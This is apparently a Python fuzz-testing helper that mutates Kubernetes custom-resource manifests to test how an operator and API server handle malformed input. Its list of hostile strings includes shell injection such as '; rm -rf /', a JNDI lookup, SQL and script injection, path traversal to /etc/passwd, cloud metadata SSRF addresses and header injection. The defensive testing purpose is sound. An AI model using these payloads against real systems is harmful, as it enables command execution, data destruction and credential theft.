"""Malformed and hostile manifests: what careless or ill-meaning people could hand to `kubectl apply`.

Each is a valid manifest with one thing made wrong, at a place and in a way drawn from a seeded random source. The
places come from the schema, so that a new field is attacked without a change here. A few of the results may still be
valid: whoever applies them asks for "refused by the API server, or answered with a condition, or harmless", never for
a crash.
"""

import copy
import json
import random
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any, NamedTuple

Manifest = dict[str, Any]
Schema = Mapping[str, Any]
Path = tuple[str | int, ...]

HUGE = 10_000
"""Entries of a list that is far too long; its text stays below the 3 MB that the API server reads."""

STRINGS = (
    "",
    " ",
    ".",
    "..",
    "*",
    "*.*.example.com",
    "-",
    "a..b",
    "null",
    "true",
    "0",
    "-1",
    "1e309",
    "NaN",
    "\x00",
    "a\x00.example.com",
    "a\r\nHost: evil.example.net",
    "api.example.com\nX-Injected: 1",
    "api.example.com. IN A 192.0.2.66",
    'api.example.com" ; drop',
    "$(touch /tmp/owned)",
    "`id`",
    "; rm -rf /",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "{{ .Values.secret }}",
    "${jndi:ldap://example.net/a}",
    "%s%s%s%n",
    "%00%0d%0a",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "https://user:password@example.net/",
    "169.254.169.254",
    "127.0.0.1",
    "0.0.0.0",  # noqa: S104 - a value to be refused, nothing binds to it
    "::",
    "::ffff:169.254.169.254",
    "fe80::1%eth0",
    "0177.0.0.1",
    "2130706433",
    "0x7f000001",
    "192.0.2.1/24",
    "255.255.255.255",
    "224.0.0.1",
    "_detour.api.example.com",
    "_any.example.com",
    "lab._detour.example.com",
    "localhost",
    "kubernetes.default.svc",
    "xn--",
    "xn--zzzzzzzz99999.example.com",
    "bücher.example.com",
    "аpi.example.com",  # noqa: RUF001 - a Cyrillic letter that looks Latin is the point
    "ｅxample.com",  # noqa: RUF001 - so is a full-width one
    "a\u202egnp.example.com",
    "a\u200b.example.com",
    "\U0001f4a5",
    "\ufeffapi.example.com",
    "İ.example.com",
    "\\052.example.com",
    "a" * 64 + ".example.com",
    ".".join(["a" * 63] * 4),
    "x" * 70_000,
    "-3s",
    "1d",
    "1.5s",
    "9" * 40 + "h",
    "0s",
    "299-200",
    "/../..//\\",
    "-----BEGIN CERTIFICATE-----",
)
NUMBERS = (0, -1, 1, 2**31 - 1, 2**31, 2**53 + 1, 2**63 - 1, 2**63, -(2**63) - 1, 10**30, 0.5, -0.5, 1e308, 1e-308)
ANNOTATIONS = ("detour.dev/failback", "detour.dev/take-over", "detour.dev/unheard-of", "kopf.zalando.org/last-handled")


class HostileManifest(NamedTuple):
    """A manifest and, in a few words, what was made wrong in it."""

    manifest: Manifest
    description: str


class _Place(NamedTuple):
    path: Path
    schema: Schema

    def __str__(self) -> str:
        return ".".join(map(str, self.path))


def hostile_manifests(
    bases: Sequence[Manifest], schemas: Mapping[str, Schema], *, seed: int, count: int
) -> Iterator[HostileManifest]:
    """Yield `count` manifests, each made from one of `bases` in turn; the same seed yields the same ones.

    `schemas` holds, by kind, the schema of the whole object (`openAPIV3Schema`). Names are `hostile-<seed>-<number>`,
    except where the name is what was made wrong. Raises KeyError for a base whose kind has no schema.
    """
    source = random.Random(seed)
    for number in range(count):
        base = bases[number % len(bases)]
        manifest = copy.deepcopy(base)
        manifest["metadata"]["name"] = f"hostile-{seed}-{number}"
        places = list(_places(schemas[base["kind"]], manifest))
        description = None
        while description is None:
            description = source.choice(MUTATIONS)(source, manifest, places)
        yield HostileManifest(manifest, f"{base['kind']}: {description}")


def _places(schema: Schema, manifest: Manifest) -> Iterator[_Place]:
    """Every field of the spec that the manifest has or could have."""
    yield from _below(("spec",), schema["properties"]["spec"], manifest["spec"])


def _below(path: Path, schema: Schema, value: Any) -> Iterator[_Place]:
    yield _Place(path, schema)
    for name, inner in schema.get("properties", {}).items():
        yield from _below((*path, name), inner, value.get(name) if isinstance(value, dict) else None)
    if "items" in schema and isinstance(value, list):
        for index, entry in enumerate(value):
            yield from _below((*path, index), schema["items"], entry)


def _put(manifest: Manifest, path: Path, value: Any) -> None:
    node: Any = manifest
    for step in path[:-1]:
        if isinstance(step, str) and not isinstance(node.get(step), (dict, list)):
            node[step] = {}
        node = node[step]
    node[path[-1]] = value


def _get(manifest: Manifest, path: Path) -> Any:
    node: Any = manifest
    for step in path:
        if isinstance(node, dict):
            node = node.get(step)
        elif isinstance(node, list) and isinstance(step, int) and step < len(node):
            node = node[step]
        else:
            return None
    return node


def _shown(value: Any) -> str:
    text = json.dumps(value)
    return text if len(text) <= 60 else f"{text[:50]}... ({len(text)} characters)"


def _deep(levels: int) -> Any:
    value: Any = "bottom"
    for level in range(levels):
        value = {"down": value} if level % 2 else [value]
    return value


def _typed(places: Sequence[_Place], *types: str) -> list[_Place]:
    return [place for place in places if place.schema.get("type") in types]


def _wrong_type(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    place = source.choice(places)
    values: list[Any] = [None, True, 7, 2.5, "text", [], {}, [[]], [None], {"": None}, ["a", 1, {}]]
    value = source.choice(values)
    _put(manifest, place.path, value)
    return f"{place} is {_shown(value)}"


def _hostile_string(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    place = source.choice(_typed(places, "string"))
    value = source.choice(STRINGS)
    _put(manifest, place.path, value)
    return f"{place} is {_shown(value)}"


def _hostile_number(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    place = source.choice(_typed(places, "integer", "number") or places)
    beyond = [place.schema[key] + step for key, step in (("minimum", -1), ("maximum", 1)) if key in place.schema]
    value = source.choice([*NUMBERS, *beyond])
    _put(manifest, place.path, value)
    return f"{place} is {_shown(value)}"


def _hostile_list(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str | None:
    lists = [place for place in _typed(places, "array") if isinstance(_get(manifest, place.path), list)]
    if not lists:
        return None
    place = source.choice(lists)
    entries = _get(manifest, place.path)
    if not entries:
        return None
    kind = source.choice(("empty", "null inside", "repeated", "huge", "nested", "strings"))
    values = {
        "empty": [],
        "null inside": [*entries, None],
        "repeated": [*entries, *copy.deepcopy(entries)],
        "huge": [copy.deepcopy(entries[0]) for _ in range(HUGE)],
        "nested": [entries],
        "strings": [source.choice(STRINGS) for _ in range(5)],
    }
    _put(manifest, place.path, values[kind])
    return f"{place} is a list: {kind}"


def _missing_field(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str | None:
    present = [place for place in places if isinstance(place.path[-1], str) and _get(manifest, place.path) is not None]
    place = source.choice(present)
    holder = _get(manifest, place.path[:-1])
    del holder[place.path[-1]]
    return f"{place} is left out"


def _unknown_field(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str | None:
    objects = [place for place in places if isinstance(_get(manifest, place.path), dict)]
    place = source.choice(objects)
    name = source.choice(("unheardOf", "__proto__", "x-kubernetes-preserve-unknown-fields", "$ref", "Hostname", "ttl "))
    _put(manifest, (*place.path, name), source.choice([1, "text", {"a": [1]}, _deep(50)]))
    return f"{place} has the unknown field {name!r}"


def _deep_nesting(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    place = source.choice(places)
    levels = source.choice((20, 100, 400))  # Python's own JSON gives up near 1,000
    _put(manifest, place.path, _deep(levels))
    return f"{place} is nested {levels} levels deep"


def _mixed_choices(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str | None:
    """Give alternatives that exclude each other, or contradict an enumeration."""
    spec = manifest["spec"]
    match manifest["kind"]:
        case "FailoverRecord":
            endpoint = source.choice(spec["endpoints"])
            what = source.choice(("CNAME", "both", "self", "checks", "wildcard"))
            if what == "CNAME":
                spec["publish"] = "CNAME"
                spec["strategy"] = source.choice(("Priority", "MultiValue", "Weighted"))
                spec["whenAllUnhealthy"] = source.choice(("KeepLast", "ServeAll", "ServeNone"))
            elif what == "both":
                endpoint.update(addresses=["192.0.2.1"], hostname="lb.example.net")
            elif what == "self":
                endpoint.pop("addresses", None)
                endpoint["hostname"] = spec["hostname"]
            elif what == "checks":
                spec["healthCheck"] |= {"tcp": {"port": 1}, "dns": {"name": "a.example.com"}, "http": {}}
            else:
                spec["hostname"] = "*." + spec["hostname"]
            return f"endpoints and choices that exclude each other ({what})"
        case "DNSZone":
            spec["rfc2136"] = {"server": source.choice(("192.0.2.53:53", "127.0.0.1:22", "[::1]:0", "a:b"))}
            spec["googleCloudDNS"] = {"project": "example-dns"}
            return "several providers in one zone"
        case _:
            spec["until"] = source.choice(("2000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00+23:59"))
            spec["state"] = source.choice(("Active", "Drained", "Gone"))
            return f"state {spec['state']} until {spec['until']}"


def _garbage_annotation(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    name = source.choice(ANNOTATIONS)
    values: list[Any] = [
        *STRINGS,
        "now",
        "NOW",
        "now\n",
        "yesterday",
        "x" * 300_000,
        json.dumps(_deep(300)),
        7,
        None,
        {},
    ]
    value = source.choice(values)
    manifest["metadata"]["annotations"] = {name: value}
    return f"annotation {name} is {_shown(value)}"


def _garbage_metadata(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    field, value = source.choice(
        [
            ("name", source.choice(STRINGS)),
            ("name", "a" * 254),
            ("namespace", source.choice(("no-such-namespace", "kube-system", "../default", ""))),
            ("labels", {"a/b/c": "d"}),
            ("labels", {"app": "x" * 64}),
            ("finalizers", ["not a finalizer"]),
            ("finalizers", ["detour.dev/unheard-of"]),
            ("ownerReferences", [{"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "u"}]),
            ("uid", "00000000-0000-0000-0000-000000000000"),
            ("generation", -1),
            ("creationTimestamp", "never"),
            ("resourceVersion", "1"),
            ("deletionTimestamp", "2000-01-01T00:00:00Z"),
        ]
    )
    manifest["metadata"][field] = value
    return f"metadata.{field} is {_shown(value)}"


def _forged_status(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    forged: list[Any] = [
        {"conditions": [{"type": "Ready", "status": "True"}]},
        {"plan": {"revision": 2**62}, "zones": [{"name": "x", "published": True, "generation": "9999.9999"}]},
        {"endpoints": [{"name": "e", "verdict": "Healthy", "since": "1970-01-01T00:00:00Z"}]},
        {"history": [{"revision": 1, "values": ["192.0.2.66"]}] * 11},
        {"ledger": {"generation": "99999999999999999999.0", "site": "evil"}},
        [],
        "fine",
        _deep(100),
    ]
    manifest["status"] = source.choice(forged)
    return f"status is supplied: {_shown(manifest['status'])}"


def _garbage_envelope(source: random.Random, manifest: Manifest, places: Sequence[_Place]) -> str:
    field, value = source.choice(
        [
            ("apiVersion", "detour.dev/v1"),
            ("apiVersion", "v1"),
            ("apiVersion", 1),
            ("kind", "failoverrecord"),
            ("kind", ""),
            ("kind", ["FailoverRecord"]),
            ("spec", None),
            ("spec", []),
            ("spec", "text"),
            ("metadata", {}),
        ]
    )
    manifest[field] = value
    return f"{field} is {_shown(value)}"


Mutation = Callable[[random.Random, Manifest, Sequence[_Place]], str | None]
MUTATIONS: tuple[Mutation, ...] = (
    # What people get wrong most often stands twice.
    _wrong_type,
    _hostile_string,
    _hostile_string,
    _hostile_number,
    _hostile_list,
    _missing_field,
    _unknown_field,
    _deep_nesting,
    _mixed_choices,
    _mixed_choices,
    _garbage_annotation,
    _garbage_metadata,
    _forged_status,
    _garbage_envelope,
)
